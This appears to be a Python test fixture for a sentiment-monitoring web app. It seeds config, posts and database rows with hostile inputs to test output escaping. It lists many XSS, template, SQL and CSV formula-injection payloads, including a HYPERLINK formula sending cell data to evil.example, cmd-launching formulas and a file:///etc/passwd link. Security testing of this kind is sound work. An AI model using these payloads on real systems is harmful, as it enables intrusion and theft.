"""A company whose names, and about whom posts, try everything against whoever looks at them."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from sentiment import database
from sentiment.alert import alert
from sentiment.config import load
from sentiment.drivers import refresh_drivers
from sentiment.labels import label
from sentiment.match import match
from sentiment.privacy import pseudonym, pseudonym_key
from sentiment.rollup import rollup
from sentiment.score import score
from sentiment.store import store_page
from sentiment.web.access import hashed
from sources.base import Page, Post
from tests.sentiment.firm import WordClassifier

PASSWORD = "beispiel"
SCRIPTS = [
    "<script>window.hacked=1;alert(1)</script>",
    "</script><script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    '"><img src=x onerror="window.hacked=1">',
    "' autofocus onfocus='window.hacked=1' x='",
    "<svg onload=window.hacked=1><animate onbegin=window.hacked=1 attributeName=x></svg>",
    "<svg><script href=data:,window.hacked=1 /></svg>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src=//evil.example></iframe><object data=//evil.example></object>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password><button>Anmelden</button></form>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "</textarea></title></style></pre><script>window.hacked=1</script><!--",
    "<math><mtext></p><style><img src=x onerror=window.hacked=1>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=window.hacked=1&#62;",
    "]]><script>window.hacked=1</script>",
    "{{7*7}} {% raise %} ${7*7} #{7*7} {{ config.__class__ }} {{ datasette }}",
    "[Link](javascript:window.hacked=1) ![x](//evil.example/x.png)",
    "background:url(//evil.example);expression(window.hacked=1)",
    "'; DROP TABLE posts; -- %s %d {0} \\",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"Arbeitsrecht")',
    "=cmd|'/C calc'!A0 Arbeitsrecht",
    "+1+cmd|' /C calc'!A0 Arbeitsrecht",
    "-2+3+cmd|' /C calc'!A0 Arbeitsrecht",
    "@SUM(1+9)*cmd|' /C calc'!A0 Arbeitsrecht",
    "\t=1+1 Arbeitsrecht",
    "\r=1+1 Arbeitsrecht",
    " \n=1+1 Arbeitsrecht",
    '"\n=1+1 Arbeitsrecht',
    "x\n=1+1,=1+1\r\n=2+2 Arbeitsrecht",
    "＝1+1 Arbeitsrecht",
    ";=1+1 Arbeitsrecht",
]
STRANGE = [
    "\u202egnp.exe\u202c \u2066\u2067\u200f gut \u2069",
    "null\0byte \x01\x02\x08\x0b\x1b[31m\x7f\x85\x9b controls",
    "\ud800 lone surrogate",
    "\ufeff\u200b\u2060 invisible \U000e0041\U000e0042",
    "Z" + "\u0335\u0321\u035c" * 400,
    "W" * 1_000_000,
    "\u0645" * 30_000,
    "漢" * 30_000,
    "a" + "\u00a0b" * 3000,
    "ﷺ" * 500 + "\u2028\u2029",
]
LINKS = [
    "javascript:window.hacked=1",
    "JaVaScRiPt:window.hacked=1//http://x.example",
    "data:text/html,<script>window.hacked=1</script>",
    "vbscript:x",
    " javascript:window.hacked=1",
    "java\nscript:window.hacked=1",
    "//evil.example/x",
    'https://evil.example/" onmouseover="window.hacked=1',
    "http://[::1",
    "https://" + "e" * 3000 + ".example/",
    "https://x.example/" + "y" * 1_000_000,
    "file:///etc/passwd",
]
COMPANY = "Kanzlei <script>window.hacked=1</script> {{7*7}}"
SERVICES = [
    'Arbeitsrecht"><img src=x onerror=window.hacked=1>',
    '=HYPERLINK("http://evil.example","Steuer")',
    "</script><script>window.hacked=1</script>" + "W" * 120,
    "javascript:window.hacked=1//Recht",
]
RIVAL = "@SUM(1+9)*cmd|' /C calc'!A0 <svg onload=window.hacked=1>"
SOURCES = ["-1+1|<iframe src=//evil.example>", "javascript:window.hacked=1//'\"" + "S" * 100]
USER = "<b onmouseover=window.hacked=1>anna</b>"


def quoted(text: str) -> str:
    """A TOML string."""
    return json.dumps(text, ensure_ascii=False)


def config_toml() -> str:
    lines = [
        "language = 'de'", "[company]", f"name = {quoted(COMPANY)}", "aliases = ['Kanzlei']",
        "[[competitors]]", f"name = {quoted(RIVAL)}", "aliases = ['Rivale']",
    ]  # fmt: skip
    for name, alias in zip(SERVICES, ("Arbeitsrecht", "Steuer", "Notar", "Erbe"), strict=True):
        lines += ["[[services]]", f"name = {quoted(name)}", f"aliases = ['{alias}*']"]
    for name in SOURCES:
        lines += ["[[sources]]", f"name = {quoted(name)}", "kind = 'rss'", "scope = 'own'"]
        lines += ["url = 'https://forum.example/feed'"]
    lines += ["[[receivers]]", f"name = {quoted(USER)}", "url = 'json://localhost'"]
    lines += ["[alerts.threshold]", "below = 99", "min_authors = 1"]
    lines += ["[web]", "port = 8001"]
    lines += ["[[web.users]]", f"name = {quoted(USER)}", f"password = '{hashed(PASSWORD)}'"]
    return "\n".join(lines)


def posts(now: datetime) -> list[Post]:
    """Every payload as text, title, author and link; enough of them for figures and drivers."""
    out = []
    for number, payload in enumerate([*SCRIPTS, *FORMULAS, *STRANGE] * 2):
        service = ("Arbeitsrecht", "Steuer", "Notar", "Erbe")[number % 4]
        said = "gut" if number % 3 else "schlecht"
        first = payload in FORMULAS
        text = f"{payload} {service} {said}" if first else f"{service} {said} {payload}"
        if number >= len([*SCRIPTS, *FORMULAS, *STRANGE]):
            text = f"Rivale {text} {number}"
        out.append(
            Post(
                external_id=f"{payload[:60]} {number}",
                title="" if number % 2 else payload,
                text=text,
                posted_at=now - timedelta(hours=5 * number),
                author=f"{payload[:500]} {number}",
                url=LINKS[number % len(LINKS)],
                rating=float(number % 5 + 1),
            )
        )
    return out


def write(folder: Path) -> None:
    """The company's folder: what came in went the worker's own way."""
    file = folder / "config.toml"
    file.write_text(config_toml(), "utf-8")
    config, now = load(file), datetime.now(UTC)
    key = pseudonym_key(config)
    with database.open_database(config) as db:
        for source, some in enumerate((posts(now)[::2], posts(now)[1::2]), start=1):
            page = Page(some, cursor={})
            store_page(db, source, page, lambda name: pseudonym(key, "s", name), config.zone)
        match(config, db)
        score(db, WordClassifier())
        rollup(db)
        _surroundings(db, now)
        rollup(db)
        refresh_drivers(config, db)
        for hours in range(4):
            alert(config, db, now=now + timedelta(hours=hours))
        _told(db)
        label(db, 1, "negative", ["anger"], USER, now)


def _surroundings(db: Any, now: datetime) -> None:
    """What else comes from outside: errors of servers, files' columns, comments of colleagues."""
    said, at = " ".join(SCRIPTS[:6]) + "W" * 500, database.timestamp(now)
    db.execute(
        "UPDATE sources SET last_attempt_at = ?, last_success_at = ?, error_count = 3, "
        "last_error = ?, problems = ?, quota = ?, recheck_error = ?",
        [at, at, said, json.dumps([said, *FORMULAS]), said, said],
    )
    db.execute("UPDATE sources SET disabled = 1 WHERE id = 2")
    for number, segment in enumerate(("=A1", "<b onclick=window.hacked=1>B</b>", "C" * 150)):
        for person in range(6):
            db.execute(
                "INSERT INTO survey_responses (survey, external_id, response, respondent, "
                "service_id, segment, metric, value, scale_low, scale_high, answered_at, day) "
                "VALUES (?, ?, ?, ?, 1, ?, 'nps', ?, 0, 10, ?, ?)",
                [SCRIPTS[0], f"{number}-{person}", *[f"{number}-{person}"] * 2, segment,
                 person + 4, at, at[:10]],
            )  # fmt: skip
    db.execute(
        "INSERT INTO alert_silences (service_id, until_at, comment, created_at) "
        "VALUES (1, '2999-01-01T00:00:00+00:00', ?, ?)",
        [said, at],
    )


def _told(db: Any) -> None:
    """Messages that could not be delivered, and what the other side said."""
    db.execute(
        "INSERT OR IGNORE INTO notifications "
        "(transition_id, receiver, status, attempts, last_error, created_at) "
        "SELECT id, ?, 'waiting', 3, ?, happened_at FROM alert_transitions",
        [USER, SCRIPTS[0] + "E" * 300],
    )
